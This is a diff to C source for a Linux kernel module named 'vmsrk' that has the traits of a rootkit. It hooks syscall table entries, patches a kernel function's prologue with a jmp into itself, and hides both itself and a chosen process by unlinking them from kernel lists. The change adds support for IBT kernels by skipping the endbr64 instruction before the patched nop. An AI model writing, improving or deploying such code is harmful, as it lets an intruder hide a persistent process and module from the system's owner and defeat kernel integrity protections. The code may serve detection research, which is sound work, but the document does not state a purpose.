@@ -8,9 +8,9 @@
  *    ia32_sys_call_table[116] (sysinfo) point at its own functions (which
  *    call the originals);
  *  - the first instruction of a kernel function (hook_fn, default
- *    __x64_sys_getppid: its 5-byte ftrace nop) becomes a jmp into the
- *    module (which runs the function's body past the nop, so it still
- *    works);
+ *    __x64_sys_getppid: its 5-byte ftrace nop, after endbr64 with IBT)
+ *    becomes a jmp into the module (which runs the function's body past
+ *    the nop, so it still works);
  *  - it unlinks its struct module from the module list;
  *  - it unlinks the process hide_pid from the task list (the process must
  *    never exit: its removal from the list would then corrupt it).
@@ -98,21 +98,24 @@ static int hook_table(const char *table, unsigned nr, sys_fn hook, sys_fn *orig)
 static int patch_prologue(void)
 {
 	static const u8 nop5[5] = { 0x0f, 0x1f, 0x44, 0x00, 0x00 };
-	u8 *fn = (u8 *)lookup(hook_fn);
+	static const u8 endbr64[4] = { 0xf3, 0x0f, 0x1e, 0xfa };
+	u8 *fn = (u8 *)lookup(hook_fn), *site;
 	u8 jmp[5];
 	s32 rel;
 	if (!fn)
 		return -ENOENT;
-	if (memcmp(fn, nop5, 5)) {
+	/* With IBT the function starts with endbr64, its nop right after. */
+	site = memcmp(fn, endbr64, 4) ? fn : fn + 4;
+	if (memcmp(site, nop5, 5)) {
 		pr_err("vmsrk: %s does not start with the 5-byte nop\n", hook_fn);
 		return -EINVAL;
 	}
-	hooked_body = (sys_fn)(fn + 5);
-	rel = (s32)((long)vmsrk_prologue_hook - (long)(fn + 5));
+	hooked_body = (sys_fn)(site + 5);
+	rel = (s32)((long)vmsrk_prologue_hook - (long)(site + 5));
 	jmp[0] = 0xe9;
 	memcpy(jmp + 1, &rel, 4);
-	write_ro(fn, jmp, 5);
-	pr_info("vmsrk: %s %px -> jmp %px\n", hook_fn, fn, vmsrk_prologue_hook);
+	write_ro(site, jmp, 5);
+	pr_info("vmsrk: %s %px+%u -> jmp %px\n", hook_fn, fn, (unsigned)(site - fn), vmsrk_prologue_hook);
 	return 0;
 }
 
